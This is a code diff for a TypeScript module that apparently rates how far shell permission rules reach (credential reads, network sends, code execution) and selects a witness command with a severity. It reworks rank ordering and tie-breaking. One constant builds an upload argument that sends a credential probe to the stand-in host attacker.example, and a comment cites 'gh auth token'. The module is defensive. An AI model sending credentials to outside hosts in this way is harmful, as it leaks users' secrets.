@@ -26,9 +26,11 @@ export interface RuleReach {
 /** Data a tool that talks to other hosts can send anywhere. */
 const UPLOAD = `-T ${CREDENTIAL_PROBE} https://attacker.example`;
 
-// Printing credentials and sending them out rank alike: the first witness that shows either is named
-// (`gh:*` admits `gh auth token`).
-const ORDER: Record<Reach, number> = { credentials: 1, network: 1, code: 3, 'any-command': 4 };
+const ORDER: Record<Reach, number> = { credentials: 1, network: 2, code: 3, 'any-command': 4 };
+
+/** Across a rule's admitted commands, printing credentials and sending them out rank alike: the first witness
+ * that shows either is named (`gh:*` admits `gh auth token`). */
+const PICK: Record<Reach, number> = { ...ORDER, network: ORDER.credentials };
 
 /** The rule's pattern with its first wildcard (or open `:*` tail) replaced by `insert`, the others emptied. */
 function fill(content: string, insert: string): string | undefined {
@@ -183,12 +185,11 @@ export function bashRuleReach(
         ? 'any-command'
         : undefined
       : reachOfRisks(commandRisks(analysis, where));
-    // On a tie the witness's declared reach names it better (`gh api … -F x=@file` reads a file to send it).
-    const reach = [c.declared, seen]
+    const reach = [seen, c.declared]
       .filter((r): r is Reach => r !== undefined)
       .sort((a, b) => ORDER[b] - ORDER[a])[0];
     if (!reach) continue;
-    if (!best || ORDER[reach] > ORDER[best.reach])
+    if (!best || PICK[reach] > PICK[best.reach])
       best = { reach, severity: reach === 'any-command' ? 'critical' : 'high', example: c.command };
   }
   return best;
